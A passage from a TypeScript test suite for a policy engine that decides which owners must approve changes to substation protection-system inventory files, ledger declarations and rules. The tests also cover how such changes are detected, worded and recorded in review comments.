  const OWNERS = 'rule "ledger-declaration-change" is unmet: 1 more approval needed from polly';
  const HIGH_RULE =
    'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"';
  const LOW_RULE = 'rule "rule-lifted" is unmet: 1 more approval needed from sam';

  it.each<[string, RuleSources, RuleSources, string[], string[]]>([
    [
      "a key added, approved by one engineer who owns nothing",
      LEDGERED,
      withLedger(declaring(1, 2)),
      ["mallory"],
      [OWNERS, HIGH_RULE, LOW_RULE],
    ],
    [
      "a key added, approved by the policy owner alone",
      LEDGERED,
      withLedger(declaring(1, 2)),
      ["polly"],
      [HIGH_RULE, LOW_RULE],
    ],
    [
      "the file removed, approved by the policy owner and the system owners, not every rule's",
      LEDGERED,
      withLedger(undefined),
      ["polly", "alice", "bob"],
      [LOW_RULE],
    ],
    [
      "the file added where there was none",
      withLedger(undefined),
      LEDGERED,
      ["mallory"],
      [OWNERS, HIGH_RULE, LOW_RULE],
    ],
    [
      "a key replaced, approved by the policy owner and every rule's approvers",
      LEDGERED,
      withLedger(declaring(3)),
      ["polly", "alice", "bob", "sam"],
      [],
    ],
    ["the file unchanged", LEDGERED, withLedger(declaring(1)), ["mallory"], []],
  ])("%s", (_case, base, head, approvers, reasons) => {
    const { policy } = parsePolicyText(RULES, "cip-policy.yaml");
    const changes = governanceChanges(base, head, FILES);
    const verdict = evaluatePolicy(policy!, {
      operations: [],
      baseSystems: new Map(),
      approvals: approvers.map(approval),
      memberships: [],
      now: 0,
      governance: governanceRequirements(policy!, changes, base),
    }).verdict;
    expect(verdict).toEqual({ allowed: reasons.length === 0, reasons });
  });

  it("words the change, and a review event judges what the comment recorded", () => {
    const changes = governanceChanges(LEDGERED, withLedger(declaring(2)), FILES);
    expect(changes.map(governanceWords)).toEqual([
      "the evidence ledger's writer declaration cip-ledger.yaml (the keys that sign what is in force)",
    ]);
    const recorded = recordedGovernanceOf(
      JSON.parse(JSON.stringify({ governance: recordGovernance(changes) })),
    );
    expect(recorded).toEqual([["ledger-declaration", "", "cip-ledger.yaml", []]]);
    // A review event whose checkout does not show the change still judges it.
    expect(withRecordedGovernance([], recorded!, LEDGERED)).toEqual(changes);
  });

  it("finds no change where the file was not looked for", () => {
    const files = { ...FILES, ledger: "" };
    expect(governanceChanges(LEDGERED, withLedger(declaring(2)), files)).toEqual([]);
  });
});

describe("the team memberships asked for when the rules themselves change", () => {
  // No operation touches the system, so only the change to the rules names its owning team: the
  // questions must ask for its members, or the change is judged without them (issue 51).
  const TEAM_OWNED = sources({
    "inventory/alpha.yaml": alpha("impact: high\nowners: [acme/protection]\n"),
  });
  const HANDED = sources({ "inventory/alpha.yaml": alpha("impact: high\nowners: [mallory]\n") });
  const { policy } = parsePolicyText(POLICY, "cip-policy.yaml");
  const questions = questionsOf(
    policy!,
    { atBase: TEAM_OWNED, head: HANDED, files: FILES },
    [],
    [approval("carol"), approval("dan")],
    [],
  );
  const member = (login: string) => ({
    team: "acme/protection",
    login,
    membership: { state: "member" as const },
  });

  it("asks for the base owners' team of a system whose owners change, with the approvers", () => {
    expect(questions.teams).toEqual(["acme/protection"]);
    expect(questions.logins).toEqual(["carol", "dan"]);
  });

  it.each<[string, ReturnType<typeof member>[], boolean]>([
    ["both approvers members of the base owners' team", [member("carol"), member("dan")], true],
    ["the memberships not read", [], false],
  ])("judges the hand-over with %s", (_case, memberships, allowed) => {
    const verdict = evaluateQuestions(questions, [], {
      approvals: [approval("carol"), approval("dan")],
      memberships,
      now: 0,
    }).verdict;
    expect(verdict.allowed).toBe(allowed);
  });
});

describe("what a change to the rules carries", () => {
  const BOTH = sources({ "inventory/bravo.yaml": LOW, "inventory/alpha.yaml": HIGH });
  // One system name under two facilities: only its parent tells which base system is which.
  const TWO_PARENTS = {
    "inventory/alpha.yaml": HIGH,
    "inventory/bravo-protection.yaml": HIGH.replace("Substation Alpha", "Substation Bravo").replace(
      "owners: [alice, bob]",
      "owners: [carol]",
    ),
  };
  const TWO_BASE = sources(TWO_PARENTS);
  const kinds = (head: RuleSources, base = BOTH) =>
    governanceChanges(base, head, FILES).map(({ kind, ...rest }) => ({
      kind,
      ...("name" in rest ? { name: rest.name } : {}),
      file: rest.file,
      ...("changes" in rest ? { changes: rest.changes } : {}),
      ...("base" in rest ? { base: rest.base?.file } : {}),
    }));
  const withAsset = (text: string, asset: string) => text.replace("assets:\n", `assets:\n${asset}`);

  it.each<[string, RuleSources, unknown[]]>([
    [
      "the same owners in another order: no change",
      sources({
        "inventory/bravo.yaml": LOW,
        "inventory/alpha.yaml": alpha("impact: high\nowners: [bob, alice]\n"),
      }),
      [],
    ],
    [
      "the impact removed: said as none",
      sources({
        "inventory/bravo.yaml": LOW,
        "inventory/alpha.yaml": alpha("owners: [alice, bob]\n"),
      }),
      [
        {
          kind: "system",
          name: "Protection System",
          file: "inventory/alpha.yaml",
          changes: ["impact high -> (none)"],
          base: "inventory/alpha.yaml",
        },
      ],
    ],
    [
      "a new asset with a baseline: no baseline change (it is created, and judged as a create)",
      sources({
        "inventory/bravo.yaml": LOW,
        "inventory/alpha.yaml": withAsset(
          HIGH,
          "  alpha-relay-02:\n    type: hardware\n    baseline: { os_firmware: [{ name: SEL-451, version: R320 }] }\n",
        ),
      }),
      [],
    ],
    [
      "moved: the base document of its system, not the first one",
      sources({ "inventory/bravo.yaml": LOW, "inventory/moved/alpha.yaml": HIGH }),
      [
        {
          kind: "document",
          name: "Protection System",
          file: "inventory/moved/alpha.yaml",
          base: "inventory/alpha.yaml",
        },
      ],
    ],
    [
      "moved under another facility: another system, whose base is none",
      sources({
        "inventory/bravo.yaml": LOW,
        "inventory/alpha.yaml": HIGH,
        "inventory/other.yaml": HIGH.replace("Substation Alpha", "Substation Bravo"),
      }),
      [{ kind: "document", name: "Protection System", file: "inventory/other.yaml" }],
    ],
    [
      "without a facility: another system than the one under a facility",
      sources({
        "inventory/bravo.yaml": LOW,
        "inventory/alpha.yaml": HIGH,
        "inventory/other.yaml": HIGH.replace("facility: Substation Alpha\n", ""),
      }),
      [{ kind: "document", name: "Protection System", file: "inventory/other.yaml" }],
    ],
    [
      "another system at a base document's path: the system the base had there",
      sources({
        "inventory/bravo.yaml": LOW.replace("Bravo Relays", "Charlie Relays"),
        "inventory/alpha.yaml": HIGH,
      }),
      [
        {
          kind: "document",
          name: "Charlie Relays",
          file: "inventory/bravo.yaml",
          base: "inventory/bravo.yaml",
        },
        {
          kind: "removed",
          name: "Bravo Relays",
          file: "inventory/bravo.yaml",
          base: "inventory/bravo.yaml",
        },
      ],
    ],
  ])("%s", (_case, head, expected) => {
    expect(kinds(head)).toStrictEqual(expected);
  });

  it.each<[string, string, string, string[]]>([
    [
      "owners first written in another order: no change",
      "owners: [bob, alice]\n",
      "owners: [alice, bob]\n",
      [],
    ],
    [
      "an impact added: said from none",
      "owners: [alice, bob]\n",
      "impact: high\nowners: [alice, bob]\n",
      ["impact (none) -> high"],
    ],
  ])("%s", (_case, before, after, words) => {
    const base = sources({ "inventory/alpha.yaml": alpha(before) });
    const head = sources({ "inventory/alpha.yaml": alpha(after) });
    expect(
      kinds(head, base).flatMap((change) => ("changes" in change ? change.changes : [])),
    ).toStrictEqual(words);
  });

  it.each<[string, RuleSources, RecordedGovernance, string]>([
    [
      "a system moved under another facility, the base having it under both",
      sources({
        ...TWO_PARENTS,
        "inventory/moved.yaml": HIGH.replace("Substation Alpha", "Substation Bravo"),
      }),
      ["document", "Protection System", "inventory/moved.yaml", ["parent Substation Bravo"]],
      "inventory/bravo-protection.yaml",
    ],
    [
      "a system re-identified at a base document's path: the base's system of its name and parent",
      sources({
        "inventory/alpha.yaml": HIGH.replace("Substation Alpha", "Substation Bravo"),
        "inventory/bravo-protection.yaml": HIGH.replace("Substation Alpha", "Substation Bravo"),
      }),
      ["document", "Protection System", "inventory/alpha.yaml", ["parent Substation Bravo"]],
      "inventory/bravo-protection.yaml",
    ],
    [
      "a system without a parent",
      sources({
        ...TWO_PARENTS,
        "inventory/plain.yaml": HIGH.replace("facility: Substation Alpha\n", ""),
      }),
      ["document", "Protection System", "inventory/plain.yaml", ["no parent"]],
      "none",
    ],
  ])(
    "records a document change's parent, and a review event finds the same base system: %s",
    (_case, head, recorded, baseFile) => {
      const computed = governanceChanges(TWO_BASE, head, FILES).filter(
        (change) => change.kind === "document",
      );
      expect(recordGovernance(computed)).toStrictEqual([recorded]);
      const [fromRecord] = withRecordedGovernance([], [recorded], TWO_BASE);
      const fileOf = (change: GovernanceChange | undefined) =>
        change !== undefined && "base" in change ? (change.base?.file ?? "none") : "none";
      expect(fileOf(fromRecord)).toBe(baseFile);
      expect(fileOf(computed[0])).toBe(baseFile);
      // The judged change carries the parent it was found by, as the computed one does.
      const parentOf = (change: GovernanceChange | undefined) =>
        change !== undefined && "parent" in change ? change.parent : "absent";
      expect(parentOf(fromRecord)).toBe(parentOf(computed[0]));
    },
  );

  it.each<[string, string[]]>([
    ["two words", ["parent Substation Bravo", "parent Substation Alpha"]],
    ["a word that names no parent", ["Substation Bravo"]],
  ])(
    "a recorded document change whose words are %s is judged as a comment that recorded no parent",
    (_case, words) => {
      const [change] = withRecordedGovernance(
        [],
        [["document", "Protection System", "inventory/moved.yaml", words]],
        TWO_BASE,
      );
      expect(change).toMatchObject({ kind: "document", base: { file: "inventory/alpha.yaml" } });
      expect(change && "parent" in change).toBe(false);
    },
  );

  it("a recorded system change's words are never read as a parent", () => {
    // A system the base no longer has at that file is judged as a document change, by its name.
    const [change] = withRecordedGovernance(
      [],
      [["system", "Protection System", "inventory/elsewhere.yaml", ["no parent"]]],
      TWO_BASE,
    );
    expect(change).toMatchObject({ kind: "document", base: { file: "inventory/alpha.yaml" } });
  });

  it("a comment of an older version, which recorded no parent: the first base system of the name", () => {
    const [change] = withRecordedGovernance(
      [],
      [["document", "Protection System", "inventory/moved.yaml", []]],
      TWO_BASE,
    );
    expect(change).toMatchObject({ kind: "document", base: { file: "inventory/alpha.yaml" } });
    expect(change && "parent" in change).toBe(false);
  });

  it("records a review and a policy change without a name, with the rules' words", () => {
    const changes: GovernanceChange[] = [
      { kind: "review", file: FILES.review },
      { kind: "policy", file: FILES.policy, lifted: ["high-impact-deletes"] },
    ];
    expect(recordGovernance(changes)).toStrictEqual([
      ["review", "", FILES.review, []],
      ["policy", "", FILES.policy, ["high-impact-deletes"]],
    ]);
    expect(
      recordGovernance([
        {
          kind: "senior-manager",
          file: FILES.policy,
          changes: ["cip_senior_manager"],
          approvalOnly: false,
        },
      ]),
    ).toStrictEqual([["senior-manager", "", FILES.policy, ["cip_senior_manager"]]]);
  });

  it.each<[string, GovernanceChange[], RecordedGovernance[], string[]]>([
    [
      "a recorded change the checkout also shows: once",
      [{ kind: "policy", file: FILES.policy, lifted: [] }],
      [["policy", "", FILES.policy, []]],
      ["policy"],
    ],
    [
      "a recorded change of another kind than the checkout's: both",
      [{ kind: "policy", file: FILES.policy, lifted: [] }],
      [["review", "", FILES.review, []]],
      ["policy", "review"],
    ],
  ])("%s", (_case, computed, recorded, expected) => {
    expect(
      withRecordedGovernance(computed, recorded, BOTH).map((change) => change.kind),
    ).toStrictEqual(expected);
  });

  it.each<[string, RecordedGovernance, unknown]>([
    [
      "a recorded system change at a file the base gives another system: a document change",
      ["system", "Other System", "inventory/alpha.yaml", ["owners [a] -> [b]"]],
      {
        kind: "document",
        name: "Other System",
        file: "inventory/alpha.yaml",
        base: "inventory/alpha.yaml",
      },
    ],
    [
      "a recorded document change of a system the base has at that file: a document change",
      ["document", "Protection System", "inventory/alpha.yaml", []],
      {
        kind: "document",
        name: "Protection System",
        file: "inventory/alpha.yaml",
        base: "inventory/alpha.yaml",
      },
    ],
  ])("%s", (_case, recorded, expected) => {
    const [change] = withRecordedGovernance([], [recorded], BOTH);
    expect({
      ...change,
      base: change && "base" in change ? change.base?.file : undefined,
    }).toStrictEqual(expected);
  });
});
